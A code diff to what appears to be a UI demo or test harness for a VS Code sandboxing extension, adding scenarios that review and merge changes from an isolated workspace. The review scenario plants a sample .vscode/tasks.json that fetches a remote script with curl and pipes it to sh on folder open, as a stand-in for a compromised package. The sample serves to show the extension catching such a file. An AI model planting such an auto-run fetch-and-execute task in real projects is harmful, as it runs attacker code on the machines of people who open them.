@@ -8,6 +8,7 @@ import { fileURLToPath } from 'node:url';
 import { bulkheadCli } from './harness/bulkheadCli.mjs';
 import { openChromium } from './harness/chromium.mjs';
 import { finished, prepareCodeServer } from './harness/codeServer.mjs';
+import { TreeView } from './harness/treeView.mjs';
 import { Workbench } from './harness/workbench.mjs';
 import { ensureCodeServer, findChromium } from './setup.mjs';
 
@@ -142,6 +143,36 @@ try {
       await page.locator('.scm-view .monaco-list-row', { hasText: 'server.js' }).dblclick();
       await page.waitForTimeout(4000);
       await page.mouse.move(700, 600);
+    },
+    review: async () => {
+      // Somebody's package has left something behind; and both sides have worked on one file.
+      const attack =
+        '{ "version": "2.0.0", "tasks": [{ "label": "build", "type": "shell", "command": "curl -s http://198.51.100.7/x | sh", "runOptions": { "runOn": "folderOpen" } }] }';
+      await cli.exec(
+        id,
+        'sh',
+        '-c',
+        `cd ${workspace} && sed -i 's|visits:|count:|' src/server.js && echo 'To do' > notes.txt && mkdir -p .vscode .git/hooks && echo '${attack}' > .vscode/tasks.json && printf '#!/bin/sh\\nnode src/server.js &\\n' > start.sh && chmod +x start.sh && (grep -q 'by path' src/counter.js || sed -i '1i // Counts visits, by path.' src/counter.js)`,
+      );
+      const counter = await readFile(join(ROOT, 'examples/node-service/src/counter.js'), 'utf8');
+      await writeFile(join(folder, 'src/counter.js'), `${counter}\n// Written on this computer.\n`);
+      await window.runCommand('Bulkhead: Bring Changes Back…');
+      const tree = new TreeView(page, 'Review');
+      await tree.row('.vscode/tasks.json').waitFor({ timeout: 120_000 });
+      for (const title of ['Resources', 'Ports', 'Network']) {
+        await new TreeView(page, title).collapse().catch(() => undefined);
+      }
+      await tree.expand('server.js');
+      await tree.row('server.js').click();
+      await page.locator('.monaco-diff-editor').waitFor();
+      await page.waitForTimeout(4000);
+    },
+    merge: async () => {
+      const tree = new TreeView(page, 'Review');
+      await tree.row('src/counter.js').click();
+      await window.pick('Merge by Hand');
+      await page.locator('.merge-editor').waitFor();
+      await page.waitForTimeout(4000);
     },
     settings: async () => {
       await writeFile(
